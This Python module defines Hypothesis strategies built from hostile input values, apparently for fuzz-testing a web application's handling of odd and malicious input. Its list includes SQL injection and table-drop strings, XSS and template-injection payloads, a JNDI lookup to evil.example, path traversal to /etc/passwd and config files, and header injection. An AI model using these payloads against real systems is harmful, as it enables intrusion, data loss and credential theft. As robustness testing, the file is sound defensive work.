"""Hostile values for Hypothesis, which no form sends but attackers do."""

from hypothesis import strategies as st

# Each has broken some server.
TEXTS = [
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "\u202e\u200f\ufeff",
    "१२३४५६७८९०",
    "\U0001d7d9\U0001d7da",
    "ﷺ" * 50,
    "e" + "\u0301" * 200,
    "👩‍👩‍👧‍👦" * 20,
    "x" * 141,
    "x" * 20_001,
    "\r\nSet-Cookie: sid=Administrator",
    "' or 1=1 -- ",
    '" or ""="',
    "'; drop table `tabUser`; --",
    "1) union select password from __Auth --",
    "` or sleep(5) or `",
    "%' or '1'='1",
    "\\",
    "%",
    "_%",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}{{ config }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "{0.__class__}",
    "../../../../etc/passwd",
    "..\\..\\site_config.json",
    "/private/files/../../site_config.json",
    "file:///etc/passwd",
    "http://127.0.0.1:13000/",
    "//evil.example",
    "None",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"a": {"b": 1}}',
    '[["name", "like", "%"]]',
    "[" * 3000,
    "Administrator",
    "Guest",
    "__init__",
    "0",
    "-1",
    "1e309",
    "9" * 40,
    "2026-02-30",
    "0000-00-00 00:00:00",
]
NUMBERS = [0, -1, 1, 1.5, -0.0, 1e308, float("inf"), float("nan"), 2**31, 2**63, 2**64, -(2**63) - 1, 10**300]
texts = st.sampled_from(TEXTS) | st.text(max_size=24)
scalars = st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.integers() | texts


def _deep(levels: int) -> list:
    nested: list = []
    for _ in range(levels):
        nested = [nested]
    return nested


nested = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)
values = scalars | nested | st.sampled_from([_deep(60), _deep(400), {"like": "%"}, ["like", "%"], [[]]])
